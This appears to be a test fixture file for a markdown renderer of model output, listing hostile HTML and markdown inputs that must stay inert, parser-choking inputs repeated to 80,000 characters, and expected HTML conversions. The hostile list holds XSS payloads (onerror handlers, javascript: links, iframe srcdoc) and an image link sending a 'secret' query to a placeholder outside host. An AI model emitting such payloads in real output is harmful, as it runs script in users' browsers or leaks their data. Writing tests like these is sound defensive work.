// Texts a model may be talked into saying: each must stay text, or become a harmless element.
// `{{outside}}` becomes an address nobody may ask.

/** Ways to run a script, fetch something, leave the page or freeze it. */
export const HOSTILE = [
  "<script>fire()</script>",
  "<img src=x onerror=fire()>",
  "<img src={{outside}}/pixel.png>",
  "<svg onload=fire()><animate onbegin=fire() attributeName=x dur=1s>",
  '<iframe srcdoc="<script>parent.fire()</script>"></iframe>',
  '<iframe src="javascript:parent.fire()"></iframe>',
  "<style>@import url({{outside}}/a.css)</style>",
  '<link rel=stylesheet href="{{outside}}/b.css">',
  '<meta http-equiv=refresh content="0;url={{outside}}/">',
  '<form action={{outside}}/><button autofocus onfocus=fire()>x</button></form>',
  "[click](javascript:fire())",
  "[click](JaVaScRiPt:fire())",
  "[click](data:text/html,<script>fire()</script>)",
  "[click](java\tscript:fire())",
  "![pixel]({{outside}}/?q=secret)",
  "![x](x\"onerror=\"fire())",
  "[a](https://example.com\"onmouseover=\"fire())",
  "<https://example.com/\"onclick=fire()>",
  "```html\n<script>fire()</script>\n```",
  "`<img src=x onerror=fire()>` **<b onclick=fire()>x</b>**",
  "| <img src=x onerror=fire()> | b |\n|---|---|\n| [x](vbscript:fire()) | y |",
  "1. <details open ontoggle=fire()>\n   > <audio src=x onerror=fire()>\n# <math><a xlink:href=javascript:fire()>x",
  "&lt;script&gt;fire()&lt;/script&gt; &#x3C;img src=x onerror=fire()&#x3E;",
  "[a [b](javascript:fire()) c](//evil.example/) [d](/relative) [e](http://insecure.example)",
];

/** What a slow parser chokes on; each is repeated to 80,000 characters. */
export const HEAVY = ["*a _b ", "**_", "[", "[](", "](", "`", "`a", "``a`", "> ", "- ", "\n- a", "\n  - a", "```\n", "| ", "x", " ", "\\", "https://a", "# ", "(", "!["];

/** Markdown and the elements it has to become. */
export const PLAIN = [
  ["a **bold** and *slanted* `code`", "<p>a <strong>bold</strong> and <em>slanted</em> <code>code</code></p>"],
  ["**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"],
  ["snake_case_name 2*3*4", "<p>snake_case_name 2<em>3</em>4</p>"],
  ["# Title\ntext\n\nmore", "<h1>Title</h1><p>text</p><p>more</p>"],
  ["- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"],
  ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
  ["1. a\n\n   more\n\n2. b\n\nend", "<ol start=\"1\"><li>a<p>more</p></li><li>b</li></ol><p>end</p>"],
  ["```js\nlet a = `1`;\n\n  b\n```\nend", "<pre><code>let a = `1`;\n\n  b\n</code></pre><p>end</p>"],
  ["````\n```\n````", "<pre><code>```\n</code></pre>"],
  ["- a\n  ```\n  x\n  ```\n- b", "<ul><li>a<pre><code>x\n</code></pre></li><li>b</li></ul>"],
  ["> a\n> b", "<blockquote>a\nb</blockquote>"],
  ["a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"],
  ["| a | b |\n|---|---|\n| 1 | 2 |", "<pre><code>| a | b |\n|---|---|\n| 1 | 2 |\n</code></pre>"],
  ["[x](https://example.com/a_(b)) <https://a.example>.", '<p><a href="https://example.com/a_(b)" rel="noopener noreferrer" target="_blank">x</a> &lt;<a href="https://a.example/" rel="noopener noreferrer" target="_blank">https://a.example</a>&gt;.</p>'],
  ["[write](mailto:a@example.com) [x](javascript:y)", '<p><a href="mailto:a@example.com" rel="noopener noreferrer" target="_blank">write</a> [x](javascript:y)</p>'],
  ["![cat](https://example.com/cat.png)", '<p><a href="https://example.com/cat.png" rel="noopener noreferrer" target="_blank">image: cat</a></p>'],
  ["a \\*b\\* ** c ** `` ` ``", "<p>a *b* ** c ** <code>`</code></p>"],
];
